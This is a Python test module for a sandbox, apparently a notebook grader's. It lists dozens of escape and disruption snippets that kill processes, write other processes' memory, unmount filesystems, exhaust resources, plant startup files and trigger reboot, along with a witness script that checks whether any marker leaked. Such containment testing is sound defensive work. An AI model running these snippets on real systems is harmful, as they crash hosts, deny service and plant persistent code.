"""Attempts to reach other submissions, the grader or the machine from behind the walls; and someone who looks for them.

Each leaves WORD wherever it gets to. After each comes a `witness`, an honest student whose notebook looks for it.
"""

WORD = "a-word-left-for-the-next"
LEFT = "WORD = 'a-word-left-' + 'for-the-next'\n"  # as notebooks have it, which must not be found for their own source
# What attempts are made with: `tried(function, *args)` goes on whatever happens, `kernel(number, *args)` calls it.
TOOLS = (
    LEFT
    + """
import ctypes, fcntl, mmap, os, resource, signal, socket, struct, subprocess, sys, threading, time

libc = ctypes.CDLL(None, use_errno=True)

def tried(function, *args):
    try: return function(*args)
    except BaseException as error: return error

def kernel(number, *args):
    return libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])

def write(path, text=WORD):
    with open(path, "w") as file: file.write(text)

def child(function):
    if os.fork() == 0:
        tried(function)
        os._exit(0)
"""
)

ESCAPES = {
    "it unmounts what hides others and overwrites them": """
for _ in range(5):
    for place in (b'/proc', b'/desk', b'/dev/shm'): libc.umount2(place, 2)
for pid in os.listdir('/proc'):
    if pid.isdigit():
        tried(lambda: os.pwrite(os.open(f'/proc/{pid}/mem', os.O_RDWR), bytes(10**6), 2**22))
        tried(os.kill, int(pid), 9) if int(pid) > 1 else None
""",
    "it unmounts everything": """
places = [line.split()[1] for line in (tried(open, '/proc/mounts') if os.path.exists('/proc/mounts') else [])]
for place in [*places, '/', '/dev', '/dev/pts', '/office', '/usr']: libc.umount2(place.encode(), 2)
tried(write, '/dev/shm/word'), tried(write, '/desk/word')
""",
    "it makes a user namespace": """
libc.unshare(0x10000000)
libc.mount(b'tmpfs', b'/office', b'tmpfs', 0, None)
""",
    "it makes every namespace": """
for bit in range(7, 32): libc.unshare(ctypes.c_int(1 << bit))
""",
    "it holds namespaces": """
for _ in range(50):
    child(lambda: (libc.unshare(0x10000000), time.sleep(600)))
""",
    "it clones into namespaces": """
for flag in (0x10000000, 0x20000, 0x40000000):
    if kernel(56, flag | 17, 0, 0, 0, 0) == 0: os._exit(0)
""",
    "it clones the new way": """
args = ctypes.create_string_buffer(struct.pack('<8Q', 0x10000000, 0, 0, 0, 17, 0, 0, 0))
if kernel(435, args, 64) == 0: os._exit(0)
""",
    "it enters the namespaces of others": """
for fd in range(64): libc.setns(fd, 0)
for pid in range(1, 300):
    fd = kernel(434, pid, 0)
    libc.setns(fd, 0x20000) if fd >= 0 else None
""",
    "it mounts memory": """
for k in range(9):
    libc.mount(b'tmpfs', b'/desk', b'tmpfs', 0, b'size=9g')
    tried(lambda: [write(f'/desk/{k}-{n}', 'x' * 2**26) for n in range(40)])
""",
    "it mounts the new way": """
fd = kernel(430, b'tmpfs', 0)
kernel(431, fd, 6, None, None, 0)
made = kernel(432, fd, 0, 0)
kernel(429, made, b'', -100, b'/office', 4)
kernel(428, -100, b'/', 1)
""",
    "it makes the library writable": r"""
for place in (b'/office', b'/office/fmlab', b'/', b'/usr', b'/dev'):
    libc.mount(None, place, None, 4096 | 32, None)
    kernel(442, -100, place, 0x8000, bytes(8) + b'\1' + bytes(23), 32)
tried(write, '/office/fmlab/metrics.py'), tried(write, '/dev/word'), tried(write, '/usr/word')
""",
    "it changes its root": """
tried(os.chroot, '/desk'), kernel(155, b'/desk', b'/desk'), kernel(161, b'/dev/shm')
""",
    "it traces": """
for pid in range(1, 400): kernel(101, 16, pid, 0, 0)
kernel(101, 0, 0, 0, 0)
""",
    "it writes into others' memory": """
data = ctypes.create_string_buffer(bytes(4096))
own = struct.pack('<QQ', ctypes.addressof(data), 4096)
for pid in range(1, 300):
    for place in (0x400000, 0x555555554000):
        kernel(311, pid, own, 1, struct.pack('<QQ', place, 4096), 1, 0)
""",
    "it takes others' files": """
for pid in range(1, 300):
    fd = kernel(434, pid, 0)
    if fd >= 0: [tried(os.write, kernel(438, fd, n, 0), WORD.encode()) for n in range(9)]
""",
    "it leaves keys": """
for ring in (-1, -2, -3, -4, -5): kernel(248, b'user', b'word', WORD.encode(), len(WORD), ring)
kernel(250, 22, -1, -4), kernel(250, 1, b'shared')
""",
    "it asks for keys": """
for kind in (b'user', b'logon', b'keyring'): kernel(249, kind, b'word', b'please', -3)
for key in range(1, 2000): kernel(250, 5, key, 0x3f3f3f3f)
""",
    "it listens where no file is": r"""
def serve():
    os.setsid()
    s = socket.socket(socket.AF_UNIX)
    s.bind('\0word')
    s.listen()
    while True: s.accept()[0].send(WORD.encode())
child(serve)
""",
    "it speaks past the network": """
for family in range(50):
    for kind in (1, 2, 3, 5): tried(socket.socket, family, kind)
s = tried(socket.socket, 40, 1)
tried(lambda: s.connect((2, 1024)))
""",
    "it shares memory": """
for key in range(1, 99):
    number = libc.shmget(key, 4096, 0o1666)
    libc.shmat.restype = ctypes.c_void_p
    place = libc.shmat(number, None, 0)
    ctypes.memmove(place, WORD.encode(), len(WORD)) if number >= 0 else None
""",
    "it leaves shared memory": """
from multiprocessing import shared_memory
tried(write, '/dev/shm/word')
s = tried(lambda: shared_memory.SharedMemory('word', create=True, size=99))
""",
    "it leaves messages": """
for key in range(1, 99):
    queue = libc.msgget(key, 0o1666)
    libc.msgsnd(queue, struct.pack('<q', 1) + WORD.encode(), len(WORD), 0o4000)
lib = tried(ctypes.CDLL, 'librt.so.1')
tried(lambda: lib.mq_open(b'/word', 0o102, 0o666, None))
""",
    "it keeps memory in no file": """
held = []
for _ in range(999):
    fd = tried(os.memfd_create, 'x')
    if isinstance(fd, int):
        tried(os.write, fd, bytes(2**26)), held.append(fd)
""",
    "it fills pipes": """
def fill():
    for _ in range(200):
        r, w = os.pipe2(os.O_NONBLOCK)
        tried(fcntl.fcntl, w, 1031, 2**20), tried(os.write, w, bytes(2**20))
    time.sleep(5)
for _ in range(50): tried(child, fill)
time.sleep(1)
""",
    "it fills sockets": """
def fill():
    held = []
    for _ in range(100):
        held += socket.socketpair()
        held[-1].setblocking(False), tried(held[-1].send, bytes(2**20))
    time.sleep(5)
for _ in range(50): tried(child, fill)
time.sleep(1)
""",
    "its children take memory": """
def take():
    held = [bytearray(b'x' * 2**27) for _ in range(20)]
    time.sleep(60)
for _ in range(40): tried(child, take)
time.sleep(5)
""",
    "its children take little memory each": """
def take():
    held = bytearray(b'x' * 2**27)
    time.sleep(60)
for _ in range(60): tried(child, take)
time.sleep(5)
""",
    "it maps memory that is shared": """
held = []
for _ in range(64):
    m = tried(mmap.mmap, -1, 2**28)
    tried(m.write, b'x' * 2**28)
    held.append(m)
""",
    "it shares memory that it does not look at": """
def take():
    held = [mmap.mmap(-1, 2**27) for _ in range(16)]
    for m in held: m.write(b'x' * 2**27), m.madvise(mmap.MADV_DONTNEED)
    time.sleep(60)
for _ in range(8): tried(child, take)
time.sleep(8)
""",
    "it shares zeros": """
def take():
    fd = os.open('/dev/zero', os.O_RDWR)
    held = [mmap.mmap(fd, 2**27) for _ in range(16)]
    for m in held: m.write(b'x' * 2**27), m.madvise(mmap.MADV_DONTNEED)
    time.sleep(60)
for _ in range(8): tried(child, take)
time.sleep(8)
""",
    "it makes what the guard reads long": """
def take():
    m = mmap.mmap(-1, 4096 * 60000, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
    start = ctypes.addressof(ctypes.c_char.from_buffer(m))
    for k in range(0, 60000, 2): libc.mprotect(ctypes.c_void_p(start + 4096 * k), 4096, 1)
    held = [bytearray(b'x' * 2**26) for _ in range(40)]
    time.sleep(60)
for _ in range(40): tried(child, take)
time.sleep(8)
""",
    "it hides from the guard": """
kernel(157, 4, 0, 0, 0, 0)
def take():
    kernel(157, 4, 0, 0, 0, 0)
    held = [bytearray(b'x' * 2**26) for _ in range(40)]
    time.sleep(60)
for _ in range(40): tried(child, take)
time.sleep(5)
""",
    "it shares memory that it maps no more": """
libc.mmap.restype = ctypes.c_void_p
for _ in range(40):
    place = libc.mmap(None, ctypes.c_size_t(2**28), 3, 0x21, -1, ctypes.c_long(0))
    if place != 2**64 - 1:
        ctypes.memset(place, 1, 2**28)
        libc.munmap(ctypes.c_void_p(place + 4096), ctypes.c_size_t(2**28 - 4096))
""",
    "its processes end and their threads take memory": """
def take():
    def more():
        held = [bytearray(b'x' * 2**26) for _ in range(40)]
        time.sleep(60)
    threading.Thread(target=more).start()
    kernel(60, 0)
for _ in range(20): tried(child, take)
time.sleep(8)
""",
    "it makes semaphores": """
for _ in range(3000): libc.semget(0, 32000, 0o1600)
""",
    "it fills what nobody accepts": r"""
def fill(name):
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(name), listener.listen(4096)
    for _ in range(4000):
        s = socket.socket(socket.AF_UNIX)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 10**7), s.setblocking(False)
        s.connect(name), tried(lambda: [s.send(bytes(2**18)) for _ in range(99)]), s.close()
    time.sleep(60)
for k in range(3): child(lambda: fill(f'\0{k}'))
time.sleep(8)
""",
    "it has others notified": """
watches = [libc.inotify_init1(0o4000) for _ in range(128)]
for fd in watches: libc.inotify_add_watch(fd, b'/desk', 0xfff), libc.inotify_add_watch(fd, b'/usr/lib', 0xfff)
for k in range(9000): tried(write, f"/desk/{'n' * 240}{k % 7}"), tried(os.remove, f"/desk/{'n' * 240}{k % 7}")
kernel(300, 0, 0), tried(fcntl.fcntl, tried(os.open, '/usr/lib', os.O_RDONLY), 1026, 1)
""",
    "it locks every byte": """
held = [tried(os.open, f'/desk/{k}', os.O_RDWR | os.O_CREAT) for k in range(200)]
for fd in held:
    for k in range(2000): tried(fcntl.lockf, fd, fcntl.LOCK_EX | fcntl.LOCK_NB, 1, 4000 - 2 * k)
""",
    "it makes rules": """
for _ in range(200):
    fd = kernel(444, struct.pack('<QQ', 0, 3), 16, 0)
    for port in range(20000 * (fd >= 0)): kernel(445, fd, 2, struct.pack('<QQ', 1, port), 0)
""",
    "it takes what there is only so much of": """
held = [ctypes.c_ulong(0) for _ in range(70)]
for context in held: kernel(206, 1000, ctypes.byref(context))
ends = [tried(os.openpty) for _ in range(4000)]
""",
    "it reads the machine's log": """
text = ctypes.create_string_buffer(10**6)
kernel(157, 15, WORD.encode()[:15], 0, 0, 0), kernel(103, 3, text, 10**6)
child(lambda: ctypes.string_at(0))
""",
    "it fills its disks": """
for folder in ('/desk', '/dev/shm', '/proc', '/dev/mqueue'):
    for n in range(40): tried(write, f'{folder}/{n}', 'x' * 2**24)
""",
    "it makes a million files": """
for n in range(10**6):
    if tried(write, f'/desk/{n}', ''): break
for n in range(10**6):
    if tried(os.mkdir, f'/dev/shm/{n}'): break
""",
    "it gifts pages": """
r, w = os.pipe()
kernel(278, w, struct.pack('<QQ', id(WORD), 4096), 1, 8)
""",
    "it asks for rings": """
for number in (425, 426, 427, 323, 321, 298): kernel(number, 8, ctypes.create_string_buffer(512), 0, 0, 0, 0)
""",
    "it writes to every file that is open": """
import stat
for fd in range(2000):
    try:
        if not stat.S_ISFIFO(os.fstat(fd).st_mode): os.write(fd, WORD.encode())
    except OSError: pass
""",
    "it leaves a history": """
shell = get_ipython()
tried(lambda: shell.history_manager.store_inputs(1, WORD))
tried(lambda: shell.history_manager.writeout_cache())
tried(lambda: os.makedirs('/desk/.ipython/profile_default'))
tried(write, '/desk/.ipython/profile_default/history.sqlite')
""",
    "it leaves start-up files": """
home = os.path.expanduser('~')
for path in ('.ipython/profile_default/startup/0.py', '.config/matplotlib/matplotlibrc',
             '.local/lib/python3/site-packages/sitecustomize.py', 'torch.py', 'fmlab.py', '.pythonrc'):
    tried(os.makedirs, os.path.dirname(f'{home}/{path}'))
    tried(write, f'{home}/{path}')
""",
    "it changes settings of the kernel": """
for path in ('/proc/sys/kernel/hostname', '/proc/sys/user/max_user_namespaces', '/proc/self/oom_score_adj',
             '/sys/kernel/mm/transparent_hugepage/enabled', '/proc/sysrq-trigger'): tried(write, path)
libc.sethostname(WORD.encode(), len(WORD)), libc.setdomainname(WORD.encode(), len(WORD))
kernel(169, 0xfee1dead, 672274793, 0x1234567, 0), kernel(167, b'/desk/x', 0)
""",
    "it stops all it can": """
tried(os.kill, -1, signal.SIGSTOP), tried(os.kill, 0, signal.SIGKILL)
time.sleep(1)
""",
    "it outlives its parent": """
def stay():
    kernel(157, 1, 0, 0, 0, 0), os.setsid()
    for s in range(1, 64): tried(signal.signal, s, signal.SIG_IGN)
    child(lambda: os.execvp('sleep', ['sleep', '98765']))
    time.sleep(600)
child(stay)
""",
    "it raises its limits": """
for kind in range(16): tried(resource.setrlimit, kind, (resource.RLIM_INFINITY,) * 2)
tried(lambda: [bytearray(b'x' * 2**28) for _ in range(60)]), None
""",
    "it takes all cores": """
tried(os.sched_setscheduler, 0, os.SCHED_FIFO, os.sched_param(99)), tried(os.nice, -20)
def spin():
    end = time.time() + 5
    while time.time() < end: pass
for _ in range(58): tried(child, spin)
""",
    "it locks what others read": """
import glob
held = []
for path in glob.glob('/office/**/*.py', recursive=True) + [sys.executable, torch.__file__]:
    f = tried(open, path)
    held.append(f)
    tried(fcntl.flock, f, fcntl.LOCK_EX | fcntl.LOCK_NB)
""",
    "it watches what others read": """
fds = [libc.inotify_init() for _ in range(200)]
for fd in fds:
    for place in (b'/office', b'/usr/lib', b'/dev'): libc.inotify_add_watch(fd, place, 0xfff)
""",
    "it runs programs that may do more": """
for command in (['su', '-c', 'id'], ['sudo', '-n', 'id'], ['mount', '-t', 'tmpfs', 'x', '/office'],
                ['newuidmap', '1', '0', '0', '1'], ['bwrap', '--unshare-all', '--ro-bind', '/', '/', 'id']):
    tried(lambda: subprocess.run(command, capture_output=True, timeout=5))
""",
    "it goes on writing to a terminal": """
a, b = tried(os.openpty)
os.write(b, WORD.encode())
for n in range(9): tried(write, f'/dev/pts/{n}')
tried(write, '/dev/tty'), tried(write, '/dev/console')
""",
    "it changes devices": """
for path in ('/dev/null', '/dev/zero', '/dev/urandom', '/usr/bin', '/office'):
    tried(os.utime, path, (1, 1)), tried(os.chmod, path, 0), tried(os.setxattr, path, 'user.word', WORD.encode())
tried(os.mknod, '/desk/disk', 0o60666, os.makedev(254, 0)), tried(lambda: open('/desk/disk', 'rb').read(9))
""",
}

# Run by an honest student: it says what it found of others.
WITNESS = (
    TOOLS
    + """
import stat
found = []

def changed(path):  # lately; no process can set this time back
    s = os.stat(path)
    return stat.S_ISREG(s.st_mode) and s.st_ctime > time.time() - 600

def see(where, data):
    if WORD.encode() in (data if isinstance(data, bytes) else str(data).encode()): found.append(where)

for top in ("/desk", "/dev", "/tmp", "/run", "/var", "/proc", "/office", "/door", "/home"):
    for folder, _, names in os.walk(top):
        see(folder, " ".join(names))
        for path in (f"{folder}/{name}" for name in names):
            tried(lambda: changed(path) and see(path, open(path, "rb").read(10**5)))
            see(path, tried(lambda: os.getxattr(path, "user.word")))
for fd in range(64):
    tried(lambda: stat.S_ISREG(os.fstat(fd).st_mode) and see(fd, os.pread(fd, 10**6, 0)))
for ring in (-1, -2, -3, -4, -5):
    text = ctypes.create_string_buffer(99)
    kernel(250, 11, kernel(250, 10, ring, b"user", b"word", 0), text, 99)
    see("key", text.raw)
s = socket.socket(socket.AF_UNIX)
tried(lambda: (s.connect("\\0word"), see("socket", s.recv(99))))
for key in range(1, 99):
    if libc.shmget(key, 4096, 0) >= 0 or libc.msgget(key, 0) >= 0: found.append("key " + str(key))
see("host", socket.gethostname()), see("environment", os.environ)
tried(lambda: see("history", list(get_ipython().history_manager.search("*"))))
print("found:", found)
"""
)
FOUND_NOTHING = "found: []\n"
